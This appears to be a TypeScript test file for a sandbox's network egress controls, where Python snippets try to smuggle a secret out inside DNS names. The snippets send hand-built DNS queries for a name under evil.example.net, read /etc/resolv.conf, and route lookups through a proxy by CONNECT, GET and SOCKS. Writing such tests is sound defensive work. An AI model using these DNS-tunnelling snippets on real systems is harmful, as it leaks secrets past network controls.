import { createServer } from 'node:net'
import { createSocket } from 'node:dgram'
import type { AddressInfo } from 'node:net'
import type { Dialer } from '../../../src/engine/sandbox/egress.ts'
import type { Attempt, Family, Prepared, StagedAttempt } from './attempt.ts'

// A lookup is a message: whoever answers for a name reads it. These carry a secret out in the name that they ask for.

const secret = 'mzxw6ytboi'

async function prepare(): Promise<Prepared> {
  const server = createSocket('udp4', (data, { port, address }) => {
    server.send(data.includes(secret) ? 'REACHED' : 'what?', port, address)
  })
  await new Promise<void>((done) => server.bind(0, '127.0.0.1', done))
  const stream = createServer((socket) => {
    socket.on('error', () => {})
    socket.on('data', (data) => socket.end(data.includes(secret) ? 'REACHED' : 'what?'))
  })
  await new Promise<void>((done) => stream.listen(0, '127.0.0.1', done))
  return {
    values: () => ({
      PORT: server.address().port,
      STREAM_PORT: (stream.address() as AddressInfo).port,
      SECRET: secret,
    }),
    options: () => ({}),
    cleanUp: () => {
      server.close()
      stream.close()
    },
  }
}

const question = `
def question(name):
  labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
  return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>BHH', 0, 1, 1)
`

const direct: Attempt[] = [
  {
    intent: 'asks a name server for a name that holds a secret',
    script: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(question(SECRET + '.evil.example.net'), ('127.0.0.1', PORT)); print(s.recv(100).decode())`,
    meets: /timed out|refused|unreachable/,
  },
  {
    intent: 'asks a name server over a connection',
    script: `
s = socket.create_connection(('127.0.0.1', STREAM_PORT), 1)
data = question(SECRET + '.evil.example.net')
s.sendall(struct.pack('>H', len(data)) + data); print(s.recv(100).decode())`,
    meets: /refused|unreachable|timed out/,
    refused: { kind: 'connect', what: /^127\.0\.0\.1:/ },
  },
  {
    intent: 'reads which name servers this computer asks',
    script: `reached([line for line in open('/etc/resolv.conf') if line.startswith('nameserver') and '127.0.0.1' not in line][0])`,
    meets: /No such file|list index out of range/,
  },
  {
    intent: "asks this computer's own name server",
    script: `
server = open('/etc/resolv.conf').read().split('nameserver')[1].split()[0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
s.connect((server, 53)); s.send(question(SECRET + '.evil.example.net'))
if server != '127.0.0.1': reached('sent to', server)
print(s.recv(100))`,
    meets: /No such file|timed out|refused|unreachable|x80|x81/,
  },
]

const asked: string[] = []
const dialer: Dialer = {
  resolve: (host) => {
    asked.push(host)
    return Promise.resolve([])
  },
  isAllowedAddress: () => true,
  route: () => {
    throw new Error('nothing resolves, so nothing is dialled')
  },
}

/** Where the name is approved, the engine asks for it; where it isn't, nobody may. */
function asking(intent: string, script: string, host = `${secret}.evil.example.net`): StagedAttempt {
  return {
    intent,
    meets: /BEGAN[^]*nothing was asked[^]*the receipt tells/,
    stage: async (within) => {
      asked.length = 0
      const hosts = within.isInside ? ['api.example.com'] : [host]
      const run = within.isInside ? within.run : within.sandboxed
      const came = await run(script, { hosts, dialer, values: { HOST: host } })
      const told = came.receipt?.refused.some(({ what }) => what.includes(secret))
      const wasAsked = asked.some((name) => name.includes(secret))
      return `${came.text} ${wasAsked ? 'REACHED' : 'nothing was asked'}, ${told ? 'the receipt tells' : 'not told'}`
    },
  }
}

const throughProxy: StagedAttempt[] = [
  asking(
    'has the proxy look up a name that holds a secret',
    `
s = socket.create_connection(('127.0.0.1', 3128), 2)
s.sendall(f'CONNECT {HOST}:443 HTTP/1.1\\r\\n\\r\\n'.encode()); print(s.recv(500).decode())`,
  ),
  asking(
    'has the proxy look up the name in the address of a page',
    `
s = socket.create_connection(('127.0.0.1', 3128), 2)
s.sendall(f'GET http://{HOST}/ HTTP/1.1\\r\\nHost: {HOST}\\r\\n\\r\\n'.encode()); print(s.recv(500).decode())`,
  ),
  asking(
    'has the proxy look up a name by SOCKS',
    `
s = socket.create_connection(('127.0.0.1', 3128), 2)
s.sendall(b'\\x05\\x01\\x00'); s.recv(2)
s.sendall(b'\\x05\\x01\\x00\\x03' + bytes([len(HOST)]) + HOST.encode() + struct.pack('>H', 443)); print(s.recv(100))`,
  ),
  asking(
    'looks up a name the ordinary way',
    `
try:
  s = socket.create_connection((HOST, 80), 2); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(100))
except OSError as error: print(error)`,
  ),
]

export const dns: Family = {
  name: 'dns',
  attempts: [
    ...direct.map((attempt) => ({ ...attempt, script: question + attempt.script })),
    ...throughProxy,
  ],
  prepare,
}
